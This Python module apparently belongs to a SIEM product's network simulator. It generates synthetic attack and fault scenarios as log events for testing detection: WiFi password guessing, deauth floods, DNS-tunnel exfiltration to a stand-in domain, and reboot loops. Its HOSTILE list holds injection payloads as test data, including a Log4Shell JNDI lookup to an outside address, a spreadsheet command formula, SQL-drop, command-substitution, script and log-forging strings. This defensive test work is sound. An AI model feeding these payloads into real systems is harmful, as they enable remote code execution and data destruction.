"""Named attacks and faults: endless stories that are mixed into a network's ordinary day.

From one line a second up, each keeps what its summary claims, in event time.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

from datto_siem.plugins.simulator import edge, network, switches, wifi

if TYPE_CHECKING:
    from collections.abc import Callable

    from datto_siem.plugins.simulator.network import Station
    from datto_siem.plugins.simulator.stage import Stage, Story

HOSTILE = (
    "x dmac=02:00:5E:00:53:66 reason=0", "Guest smac:02:00:5E:00:53:01", "a|b|c|9|",
    "=cmd|' /C x'!A0",
    "${jndi:ldap://198.51.100.7/a}", "{{7*7}}", "<script>alert(1)</script>", "\x1b[31mred\x1b[0m",
    "\u202egnp.exe", "a\u2028b", "caf\udce9", "'; drop table x; --", "$(reboot)", "C:\\temp\\",
    "\t\x85",
    "CEF:1|Datto|AccessPoint|7.1.0|wifi|probe|0|rt=1", "dvc=192.0.2.66 cs2=Corporate", "%s%n%x",
)  # fmt: skip
TUNNEL = "t.exfil.example"
BASE32 = "abcdefghijklmnopqrstuvwxyz234567"


class Scenario(NamedTuple):
    """One scenario.

    Attributes:
        summary: What it shows and claims, in one line.
        story: Endless lines of it.
        pace: Lines a second of event time it would like to have.
    """

    summary: str
    story: Callable[[Stage], Story]
    pace: float = 5.0


def password_guess(stage: Stage) -> Story:
    """Guess a password until it is found, then start again elsewhere."""
    while True:
        ap = stage.rng.choice(stage.access_points)
        for _ in range(30):
            station = stage.rng.choice(ap.site.stations)
            if station.at is None and not station.busy:
                break
        guesser = _stranger(stage, station, "kali")
        for _ in range(40):
            yield from wifi.wrong_password(stage, guesser, ap)
        yield from wifi.join(stage, guesser, ap)


def deauth_flood(stage: Stage) -> Story:
    """Send deauthentication in the name of every station of one access point."""
    ap = stage.rng.choice(stage.access_points)
    while True:
        for station in ap.site.stations[:60]:
            event = "wifi/deauth" if stage.draw() < 0.8 else "wifi/disassoc"
            yield wifi.frame(stage, event, ap, station, stage.rng.choice((7, 7, 7, 6, 3)))


def dns_tunnel(stage: Stage) -> Story:
    """Carry a file out in the names that one subscriber asks for."""
    who = next(each for each in stage.subscribers if each.since is not None)
    while True:
        if who.since is None:  # logged out meanwhile: the tunnel takes the session up again
            who.since = stage.now
        labels = ("".join(stage.rng.choices(BASE32, k=size)) for size in (60, 50))
        yield edge.answered(stage, who, f"{'.'.join(labels)}.{TUNNEL}")
        if stage.draw() < 0.1:
            flow = ("default", "dns", "udp", "53", "normal")
            yield edge.carried(stage, who, flow, "203.0.113.53", upload=True)


def reboot_loop(stage: Stage) -> Story:
    """One access point starts again and again; nobody asked for it."""
    ap = stage.rng.choice(stage.access_points)
    while True:
        yield from wifi.reboot(stage, ap, "watchdog")
        for station in ap.site.stations[:3]:
            if station.at is None and not station.busy:
                yield from wifi.join(stage, station, ap)


def injection(stage: Stage) -> Story:
    """Strangers' texts that try to be something else: SSIDs, host names, DNS names."""
    while True:
        text = stage.rng.choice(HOSTILE)
        ap = stage.rng.choice(stage.access_points)
        station = _stranger(stage, stage.rng.choice(ap.site.stations), text)
        yield wifi.frame(stage, "dhcp/up", ap, station)
        station.ssid = text
        yield wifi.frame(stage, "wifi/probe", ap, station)
        who = stage.pick_subscriber(connected=True)
        if who is not None:
            name = text.replace(" ", "\\ ")  # as the gateway's DNS library writes it
            yield edge.answered(stage, who, f"{name}.evil.test")


def unknown_events(stage: Stage) -> Story:
    """Events a later firmware may bring."""
    while True:
        yield switches.undocumented(stage)


def switch_syslog(stage: Stage) -> Story:
    """Switches: plain text, now and then CEF."""
    while True:
        if stage.draw() < 0.8:
            yield switches.text(stage)
        else:
            yield switches.undocumented(stage, "switch")


SCENARIOS: dict[str, Scenario] = {
    "wifi-password-guess": Scenario(
        "one station, at least 40 key mismatches in 5 minutes, in the end with success",
        password_guess,
    ),
    "deauth-flood": Scenario(
        "at least 50 deauth and disassoc a minute on one access point, from all its stations",
        deauth_flood,
    ),
    "dns-tunnel": Scenario(
        f"one subscriber, at least 150 long random names under {TUNNEL} in 10 minutes", dns_tunnel
    ),
    "ap-reboot-loop": Scenario(
        "one access point reboots at least 3 times an hour by its watchdog", reboot_loop, 0.5
    ),
    "injection": Scenario(
        "hostile SSIDs, DHCP host names and DNS names: forged pairs, escapes, templates", injection
    ),
    "unknown-events": Scenario("Datto events that no table has a row for", unknown_events),
    "switch-syslog": Scenario("plain syslog of switches, RFC 3164 and 5424", switch_syslog),
}


def _stranger(stage: Stage, near: Station, host: str) -> Station:
    return network.Station(
        network.station_mac(stage.rng), near.ip, host, near.ssid, near.site, private=True
    )
